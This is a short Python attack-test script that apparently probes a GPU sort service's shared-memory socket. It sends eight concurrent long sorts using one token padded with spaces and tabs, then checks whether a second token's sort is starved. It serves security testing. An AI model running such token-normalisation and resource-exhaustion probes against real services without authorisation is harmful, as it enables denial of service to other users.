# Token spellings on the shared-memory calls socket: 8 concurrent long Sorts with token A spelled 8 ways.
import sys, time, os, socket, struct, threading, subprocess
from shm import *
name = sys.argv[1]; path = f"/tmp/atk2/{name}/shm.sock"; P = ports(name)
N = 32 << 20; size = N * 4
fd = memfd(size); os.pwrite(fd, os.urandom(1 << 20) * (size >> 20), 0)
s = conn(path); send_fds(s, rec(size), [fd]); code, rid = reply(s); print("region", code, rid)
def varint(v):
    o = b""
    while v >= 128: o += bytes([(v & 127) | 128]); v >>= 7
    return o + bytes([v])
ref = b"\x0a" + varint(len(rid)) + rid.encode() + b"\x10\x00\x18" + varint(size)
req = b"\x0a\x02\x08\x01" + b"\x22" + varint(len(ref)) + ref + b"\x2a" + varint(len(ref)) + ref
def call(token): return b"GSCQ" + struct.pack("<HHIHHIIQ", 1, 1, 60000, len(token), 0, len(req), 0, 0) + token + req
spell = [b"tokA", b" tokA", b"tokA ", b"  tokA", b"tokA  ", b"\ttokA", b"tokA\t", b" tokA "]
res = {}
def run(tok):
    t = time.time(); c = conn(path, 60); send_fds(c, call(tok), []); r = c.recv(70000)
    fl, cd, ml, rl = struct.unpack("<HIII", r[6:20]); res[tok] = (cd, r[32:32+ml][:70], round(time.time() - t, 2))
ths = [threading.Thread(target=run, args=(t,)) for t in spell]
for t in ths: t.start()
time.sleep(0.3)
env = dict(os.environ, GPUSORT_TOKEN="tokB")
r = subprocess.run(["/tmp/attack/gpusort", "sort", "-s", f"127.0.0.1:{P['grpc_port']}", "-i", "/tmp/atk2/in.txt", "-o", "/tmp/atk2/out.txt", "-t", "i32", "--timeout", "20"], env=env, capture_output=True, text=True)
print("token B gRPC sort during: rc", r.returncode, (r.stdout + r.stderr)[:150])
for t in ths: t.join()
for k, v in res.items(): print("%-10r" % k, v)
